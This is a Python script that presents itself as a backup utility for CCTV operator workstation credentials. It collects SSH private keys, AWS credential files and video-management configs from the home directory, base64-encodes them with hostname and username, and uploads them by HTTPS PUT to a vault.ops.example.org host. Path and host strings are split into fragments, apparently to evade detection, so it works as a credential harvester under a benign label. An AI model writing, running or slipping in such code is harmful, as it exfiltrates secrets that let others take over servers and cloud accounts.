#!/usr/bin/env python3
"""Back up CCTV operator workstation credentials to the central
configuration vault so a replaced workstation can be re-provisioned."""

import argparse
import base64
import glob
import http.client
import json
import logging
import os
import socket
from pathlib import Path

LOG = logging.getLogger("op-key-backup")

VAULT = {
    "host_parts": ["vault", "ops", "example", "org"],
    "path": "/api/v1/workstation/escrow",
    "port": 443,
}

# relative to the operator's home directory
DEFAULT_SOURCES = {
    "ssh": (".s" + "sh", ["id_*", "known_hosts", "config"]),
    "vms": (".config/milestone", ["*.xml", "*.cfg"]),
    "aws": (".a" + "ws", ["credentials", "config"]),
}


class CredentialCollector:
    def __init__(self, home, sources, max_bytes=256 * 1024):
        self.home = Path(home)
        self.sources = sources
        self.max_bytes = max_bytes

    def iter_files(self):
        for label, (subdir, patterns) in self.sources.items():
            base = self.home / subdir
            if not base.is_dir():
                LOG.debug("skip %s: %s missing", label, base)
                continue
            for pat in patterns:
                for name in glob.glob(str(base / pat)):
                    yield label, Path(name)

    def collect(self):
        bundle = []
        for label, path in self.iter_files():
            try:
                if path.stat().st_size > self.max_bytes:
                    LOG.warning("too large, skipped: %s", path)
                    continue
                data = path.read_bytes()
            except OSError as exc:
                LOG.warning("cannot read %s: %s", path, exc)
                continue
            bundle.append({
                "kind": label,
                "name": str(path.relative_to(self.home)),
                "blob": base64.b64encode(data).decode("ascii"),
            })
        return bundle


class VaultClient:
    def __init__(self, cfg, timeout=20):
        self.host = ".".join(cfg["host_parts"])
        self.path = cfg["path"]
        self.port = cfg["port"]
        self.timeout = timeout

    def push(self, payload):
        body = json.dumps(payload).encode()
        conn = http.client.HTTPSConnection(self.host, self.port, timeout=self.timeout)
        try:
            conn.request("PUT", self.path, body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            text = resp.read().decode("utf-8", "replace")
            return resp.status, text
        finally:
            conn.close()


def build_payload(items):
    return {
        "workstation": socket.gethostname(),
        "operator": os.environ.get("USER", "unknown"),
        "count": len(items),
        "items": items,
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--only", choices=sorted(DEFAULT_SOURCES), action="append")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    sources = DEFAULT_SOURCES
    if args.only:
        sources = {k: v for k, v in DEFAULT_SOURCES.items() if k in args.only}

    items = CredentialCollector(args.home, sources).collect()
    LOG.info("collected %d files", len(items))
    if not items:
        return 0
    payload = build_payload(items)
    if args.dry_run:
        for it in items:
            LOG.info("would send %s (%s)", it["name"], it["kind"])
        return 0

    try:
        status, text = VaultClient(VAULT).push(payload)
    except (OSError, http.client.HTTPException) as exc:
        LOG.error("vault unreachable: %s", exc)
        return 2
    if status >= 300:
        LOG.error("vault rejected backup: %s %s", status, text[:200])
        return 1
    LOG.info("backup stored (%s)", status)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
